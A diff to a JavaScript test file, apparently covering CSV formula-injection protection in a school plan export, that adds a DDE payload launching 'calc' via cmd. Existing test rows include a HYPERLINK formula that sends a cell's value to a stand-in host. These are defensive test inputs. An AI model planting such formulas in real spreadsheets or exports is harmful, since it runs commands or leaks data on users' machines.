@@ -68,6 +68,7 @@ describe('plan CSV export through the HTTP API', () => {
     ['=HYPERLINK("http://example.invalid/?leak="&A1,"Klikšķini")', '@SUM(1+1)'],
     ['+1+1', '-2+3'],
     ['=1+1', 'Vik'],
+    ["+cmd|' /C calc'!A0", '-Rēzekne'],
   ])('writes the name %s and municipality %s as text', async (name, municipality) => {
     const ids = [await schoolInPlan(name, municipality)];
     await store.setMeta(
